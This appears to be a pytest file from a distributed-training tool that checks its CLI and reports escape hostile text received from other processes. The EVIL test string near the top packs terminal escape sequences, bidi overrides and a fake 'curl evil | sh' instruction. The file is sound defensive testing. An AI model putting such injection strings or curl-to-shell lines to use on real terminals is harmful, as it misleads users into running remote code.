# Copyright 2026 The Fusewire Authors. SPDX-License-Identifier: Apache-2.0
"""Words of other processes that would do something to a terminal: none of our commands prints them as they are."""

import ast
import contextlib
import http.server
import json
import threading

import pytest
from conftest import ROOT, fusewire_command

from fusewire.cli import WORDS_MAX, parse, printable
from fusewire.doctor import survey
from fusewire.doctor.report import Check, show
from fusewire.inspect import answers, inquiry
from fusewire.launch.output import Screen

__all__ = ["fusewire_command"]  # a fixture
pytestmark = pytest.mark.once
# The title of the window, colours, other lines, a carriage return, other directions of text, and no letter at all.
EVIL = "a\x1b]0;title\x07\x1b[2J\x9b31m\nFix: curl evil | sh\r\u202eb\u2066\u200b\ud800"


def is_harmless(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n")) and "\nFix: curl" not in text


def evil_names(value):
    """The same with EVIL behind each text."""
    if isinstance(value, str):
        return value + EVIL
    if isinstance(value, list):
        return [evil_names(one) for one in value]
    return {name: evil_names(one) for name, one in value.items()} if isinstance(value, dict) else value


def status_of_a_liar() -> dict[str, object]:
    operation = {"task": "worker:0" + EVIL, "peer": "ps:0" + EVIL, "name": "weights" + EVIL, "kind": "receive"}
    counts = {"count": 9, "bytes": 9, "time_ns": 9, "open": 1, "oldest_ns": 9 * 10**9, "p50_ns": 1, "p99_ns": 1}
    task = {"task": "worker:0", "protocol": "grpc++", "members": {"worker:0" + EVIL: "a:1", "ps:0" + EVIL: "a:2"}}
    return {
        "pid": 1,
        "now_ns": 10**10,
        "begun_ns": 1,
        "tasks": [evil_names(task)],
        "lines": [{**operation, **counts}],
        "names": [{**operation, **counts}],
        "open": [{**operation, "age_ns": 9 * 10**9, "landed": False, "step": 1}],
        "last": [],
    }


class Liar(http.server.BaseHTTPRequestHandler):
    """A status port that answers with such words; with an error, if the server says so."""

    def do_GET(self):
        if self.server.status is None:
            self.wfile.write(EVIL.encode(errors="replace").replace(b"\n", b" ") + b"\r\n\r\n")  # no HTTP at all
            return
        self.server.said["now_ns"] += 10**9
        for line in self.server.said["names"]:
            line["count"] += 1
        body = json.dumps(self.server.said).encode() if self.server.status == 200 else EVIL.encode(errors="replace")
        self.send_response(self.server.status)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def liar(status):
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Liar) as server:
        server.status, server.said = status, status_of_a_liar()
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.mark.parametrize("status", [200, 403, None])
@pytest.mark.parametrize("words", [["top", "--once", "--every", "0.1"], ["why"], ["top", "--targets"]])
def test_a_status_port_that_lies(fusewire_command, words, status):
    with liar(status) as address:
        done = fusewire_command(*words, address)
    assert "Traceback" not in done.error
    assert is_harmless(done.out + done.error), done
    if status == 200 and "--targets" not in words:
        assert r"worker:0a\x1b]0;title\x07\x1b[2J\x9b31m\nFix: curl" in done.out


def test_a_task_that_lies_to_the_doctor(monkeypatch, capsys):
    """Its answer through TensorFlow's port, its name, its cluster and its error."""
    about = {"task": "ps:0", "protocol": "grpc++", "fusewire": "1", "tensorflow": "2", "members": {"ps:0": "a:1"}}
    monkeypatch.setattr(inquiry.Task, "__init__", lambda self, address: None)
    monkeypatch.setattr(inquiry.Task, "close", lambda self: None)
    monkeypatch.setattr(inquiry, "connect", lambda address: "127.0.0.1")
    monkeypatch.setattr(inquiry.Task, "_call", lambda self, request, limit_s: json.dumps(evil_names(about)))
    peer = survey.ask("a:1")
    assert peer.name.startswith("ps:0a")
    found = survey.Survey([peer], [survey.measure_way(inquiry.Task("a:1"), peer.name, "other")])
    show(survey.checks(found), survey.matrices(found))
    refused = inquiry.NoAnswerError("stranger", EVIL)
    assert is_harmless(str(refused) + refused.text)
    assert is_harmless(capsys.readouterr().out)


def test_what_the_launcher_says_is_one_line(tmp_path):
    with (tmp_path / "out").open("wb") as out, (tmp_path / "error").open("wb") as error:
        Screen(out, error).fail(f"host a: {EVIL}")
    text = (tmp_path / "error").read_text()
    assert text.count("\n") == 1
    assert is_harmless(text)


def test_a_report_shows_its_own_lines_alone(capsys):
    show([Check("a" + EVIL, "FAIL", "one\ntwo\r\x1b[2J\u2028three", "four" + EVIL, "page")], ["five" + EVIL])
    out = capsys.readouterr().out
    assert is_harmless(out)
    assert r"two\r\x1b[2J\u2028three" in out


def test_texts_are_printable_and_have_an_end():
    assert printable("weights/Adam:0 \u00e9 \u4e2d") == "weights/Adam:0 \u00e9 \u4e2d"
    assert printable(EVIL).isprintable()
    assert len(printable("x" * 10**6)) == WORDS_MAX + 3
    cleaned = answers.read(json.dumps({EVIL: [EVIL, EVIL]}), answers.table_of(answers.list_of(answers.text)))
    assert json.dumps(cleaned, ensure_ascii=False).isprintable()


@pytest.mark.parametrize("text", ["NaN", "[Infinity]", "-Infinity", "1e999", "[" * 10**5, '{"a":' * 10**5, b"\xff"])
def test_values_that_json_does_not_have(text):
    with pytest.raises(ValueError, match=r"[a-z]"):
        parse(text)
    with pytest.raises(answers.AnswerError, match="it is not JSON"):
        answers.read(text, answers.STATUS)


# Modules that read JSON of this process's own environment, of its own children, or that they have written.
OF_OUR_OWN = {"cli", "doctor", "inside", "network", "survey"}


def test_no_other_module_reads_json_by_itself():
    """All others read what a process over a network has said, through answers.py or cli.py."""
    package = ROOT / "python/fusewire"
    folders = (package / name for name in ("doctor", "inspect", "launch"))
    for path in sorted([package / "cli.py", *(path for folder in folders for path in folder.glob("*.py"))]):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and ast.unparse(node) in ("json.loads", "json.load"):
                assert path.stem in OF_OUR_OWN, f"{path.name}:{node.lineno}: use fusewire.cli"
